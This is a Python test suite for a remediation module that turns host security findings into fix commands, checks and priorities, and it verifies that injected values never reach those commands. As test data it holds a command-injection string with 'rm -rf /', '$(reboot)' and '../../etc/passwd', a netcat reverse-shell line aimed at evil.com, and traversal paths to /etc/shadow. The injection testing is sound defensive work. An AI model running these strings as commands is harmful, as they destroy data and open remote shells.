import re
from dataclasses import replace

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datamodules.records import CATEGORIES, SEVERITIES, Finding
from datamodules.tasks.remediation import ALIASES, find_entry, knowledge, remediate
from datamodules.tasks.schemas import MAX_STEP_LENGTH, PRIORITIES, REMEDIATION

ENTRIES = [entry for entries in knowledge().values() for entry in entries]
NAMES = [f"{entry.category}-{entry.kind or 'fallback'}" for entry in ENTRIES]
SOURCE = re.compile(
    r"CIS [A-Z]|kernel documentation, |[a-zA-Z_.-]+\([1-8]\)|MITRE ATT&CK T\d|NIST SP 800|RFC \d|CVE-\d|GTFOBins|manual"
)
HOSTILE = "x; rm -rf / #$(reboot)`id`\n|&<>\"'\\ ../../etc/passwd"
FIELDS = ("pid", "port", "foreign_address", "ip", "client_ip", "domain", "query", "user", "module", "path", "parameter")


def make_finding(category="network", title="t", description="d", severity="high", metadata=None, **rest) -> Finding:
    return Finding("id", title, description, category, severity, 80.0, 80.0, metadata or {}, **rest)


def validate(answer):
    jsonschema.Draft202012Validator(REMEDIATION).validate(answer)


def test_every_category_has_a_fallback_and_specific_entries():
    assert set(knowledge()) == {*CATEGORIES, "any"}
    assert set(ALIASES.values()) <= set(CATEGORIES)
    assert sum(bool(entry.kind) for entry in ENTRIES) >= 35
    for category, entries in knowledge().items():
        assert not entries[-1].kind, category
        assert not entries[-1].words, category
        assert all(entry.kind and entry.words for entry in entries[:-1]), category
        kinds = [entry.kind for entry in entries]
        assert len(set(kinds)) == len(kinds), category


@pytest.mark.parametrize("entry", ENTRIES, ids=NAMES)
def test_an_entry_is_complete(entry):
    assert SOURCE.search(entry.source), entry.source
    assert len(entry.source) <= REMEDIATION["properties"]["source"]["maxLength"]
    assert 1 <= len(entry.actions) <= 3
    for action in entry.actions:
        assert list(action) == ["title", "description", "command", "check"]
        assert all(text.strip() == text and text for text in action.values())
        assert len(action["description"]) <= MAX_STEP_LENGTH
        # a name in braces is a placeholder that code fills, so a misspelt name would reach the user
        for name in re.findall(r"(?<!\$)\{([a-z_]+)\}", " ".join(action.values())):
            assert name in {"pid", "port", "ip", "client_ip", "domain", "user", "module", "path", "parameter"}
    assert all(word == word.lower() for word in entry.words)


@pytest.mark.parametrize(
    "entry", [e for e in ENTRIES if e.pattern], ids=[n for e, n in zip(ENTRIES, NAMES, strict=True) if e.pattern]
)
def test_an_entry_applies_to_every_text_that_its_pattern_matches(entry):
    @settings(max_examples=10, deadline=None, database=None)
    @given(st.from_regex(entry.pattern, alphabet=st.characters(min_codepoint=32, max_codepoint=126)))
    def check(text):
        if entry.pattern.search(text.lower()):
            assert entry.applies(text.lower())

    check()


@pytest.mark.parametrize(
    ("kind", "finding"),
    [
        ("ptrace_scope", make_finding("kernel_params", "ptrace_scope", metadata={"current": "0"})),
        ("panic_on_oops", make_finding("kernel_params", "panic_on_oops", "Panic on kernel oops")),
        ("panic", make_finding("kernel_params", "panic", "Kernel panic timeout")),
        ("rp_filter", make_finding("kernel_params", "/proc/sys/net/ipv4/conf/all/rp_filter")),
        ("rare_filesystem", make_finding("modules", "Module cramfs", "Potentially vulnerable module")),
        ("bluetooth", make_finding("modules", "Module bnep", "Potentially unnecessary kernel module loaded")),
        ("", make_finding("modules", "Module ext4", "Loaded kernel module")),
        ("container_network", make_finding("kernel_module", "x", metadata={"module": "br_netfilter"})),
        ("database", make_finding(title="Normal network service on port 6379", metadata={"port": 6379})),
        ("database", make_finding(title="TCP listening", metadata={"port": "3306"})),
        ("malware_port", make_finding(title="TCP 4444 listening")),
        ("command_and_control", make_finding(title="Malicious C2 communication detected")),
        ("odd_socket", make_finding(description="Unknown socket state", metadata={"port": 22})),
        ("reverse_shell", make_finding("ioc", metadata={"command": "/usr/bin/nc -e /bin/bash evil.com 4444"})),
        ("preload", make_finding("ioc", "Suspicious LD_PRELOAD")),
        ("deleted_executable", make_finding("ioc", "Deleted binary executing", metadata={"deleted": "true"})),
        ("recon_tool", make_finding("ioc", description="Process with suspicious patterns: /usr/bin/id")),
        ("malware", make_finding("processes", "Malicious process detected")),
        ("netcat_listener", make_finding("processes", metadata={"command": "/usr/bin/nc -l 4444"})),
        ("interpreter_one_liner", make_finding("processes", metadata={"command": "python3 -c 'import os'"})),
        ("apparmor", make_finding("mac", "AppArmor status")),
        ("selinux_absent", make_finding("mac", "SELinux status", metadata={"present": "false"})),
        ("selinux", make_finding("mac", "SELinux status", metadata={"present": "true"})),
        ("expected", make_finding("suid", "SUID/SGID binary", metadata={"expected": "true"})),
        ("unexpected", make_finding("suid_sgid", "SUID/SGID binary", metadata={"expected": "false"})),
        ("network_tool", make_finding("suid", "SUID /usr/bin/pppd")),
        ("file_capability", make_finding("world_writable", "File capabilities binary")),
        ("privilege_escalation", make_finding("endpoint_behavior", metadata={"activity": "privilege_escalation"})),
        ("", make_finding("no such category")),
    ],
)  # fmt: skip
def test_the_kind_of_entry_that_applies(kind, finding):
    assert find_entry(finding).kind == kind


@pytest.mark.parametrize("severity", SEVERITIES)
def test_priority_follows_severity(severity):
    answer = remediate(make_finding(severity=severity))
    validate(answer)
    assert {action["priority"] for action in answer["actions"]} == {PRIORITIES[severity]}


def test_a_finding_of_severity_info_needs_only_a_check():
    answer = remediate(make_finding("kernel_params", "kptr_restrict", severity="info"))
    assert [action["title"] for action in answer["actions"]] == ["No action needed"]
    assert "command" not in answer["actions"][0]
    assert answer["actions"][0]["check"] == "sysctl -n kernel.kptr_restrict prints 1 or 2"
    assert "kernel documentation" in answer["source"]


def test_plain_values_fill_the_command():
    finding = make_finding("modules", "Module cramfs")
    assert "install cramfs /bin/false" in remediate(finding)["actions"][0]["command"]
    answer = remediate(
        make_finding(title="C2 communication", metadata={"foreign_address": "203.0.113.78:1105", "port": 1105})
    )
    assert "ip daddr 203.0.113.78 drop" in answer["actions"][0]["command"]
    assert "sport = :1105" in answer["actions"][1]["command"]
    assert "kill -STOP 4347;" in str(remediate(make_finding("ioc", "bash -i", metadata={"pid": "4347"})))


@pytest.mark.parametrize("entry", ENTRIES, ids=NAMES)
def test_hostile_values_never_reach_a_command(entry):
    title = " ".join([*entry.words[:1], HOSTILE, "module", HOSTILE, "port", HOSTILE])
    finding = make_finding(entry.category, title, HOSTILE, metadata=dict.fromkeys(FIELDS, HOSTILE))
    answer = remediate(finding)
    validate(answer)
    clean = {text for known in ENTRIES for action in known.actions for text in action.values()}
    for action in answer["actions"]:
        for key in ("command", "check"):
            # the text is one of the table, with the names of its placeholders
            assert action[key] in {re.sub(r"\{([a-z_]+)\}", lambda match: match[1].upper(), text) for text in clean}


@pytest.mark.parametrize(
    "metadata",
    [
        {"pid": "0"}, {"pid": "1"}, {"pid": -1}, {"pid": "1 2"}, {"pid": "12\n"}, {"foreign_address": "127.0.0.1:80"},
        {"foreign_address": "0.0.0.0:0"}, {"user": "root"}, {"user": "a b"}, {"path": "/"}, {"path": "/etc"},
        {"path": "/tmp/../etc/shadow"}, {"path": "/tmp/a b"}, {"path": "/" + "a/" * 90}, {"domain": "-x.com"},
        {"module": "-r"}, {"parameter": "a b"},
    ],
)  # fmt: skip
def test_dangerous_values_are_not_inserted(metadata):
    value = str(next(iter(metadata.values()))).rpartition(":")[0] or str(next(iter(metadata.values())))
    for entry in ENTRIES:
        finding = make_finding(entry.category, " ".join([*entry.words[:1], "x"] * 2), metadata=metadata)
        for action, raw in zip(remediate(finding)["actions"], find_entry(finding).actions, strict=True):
            for key in ("command", "check"):
                assert action[key] == re.sub(r"\{([a-z_]+)\}", lambda match: match[1].upper(), raw[key]), value


def test_answers_with_the_longest_values_validate():
    path = "/" + "/".join(["p" * 46] * 2)
    long = {"pid": 9999999, "port": 65535, "module": "m" * 56, "path": path, "domain": "d" * 96, "user": "u" * 32}
    long |= {"parameter": "k" * 64, "client_ip": "203.113.113.178", "ip": "203.113.113.178"}
    for entry in ENTRIES:
        validate(remediate(make_finding(entry.category, " ".join(entry.words[:1]), metadata=long)))


def test_enriched_findings_use_the_mitigation_steps_of_their_shard():
    enrichment = {
        "mitigation_steps": ["1. Close port 22", "", 5, "- " + "word " * 80, *["step"] * 20],
        "attack_vectors": ["brute force"],
        "business_impact": "Loss of the host.",
    }
    answer = remediate(make_finding(enrichment=enrichment, severity="critical"))
    validate(answer)
    first, second, *_ = answer["actions"]
    assert first == {"title": "Close port 22", "priority": "immediate"}
    assert second["title"].endswith("…")
    assert second["description"].startswith("word word")
    assert len(answer["actions"]) == 6
    assert answer["attack_vectors"] == ["brute force"]
    assert answer["business_impact"] == "Loss of the host."
    assert "source" not in answer


@pytest.mark.parametrize(
    "enrichment", [{}, {"mitigation_steps": []}, {"mitigation_steps": None}, {"mitigation_steps": [""]}]
)
def test_empty_enrichment_falls_back_to_the_table(enrichment):
    finding = make_finding(enrichment=enrichment)
    assert remediate(finding) == remediate(replace(finding, enrichment={}))
    assert remediate(finding)["source"]
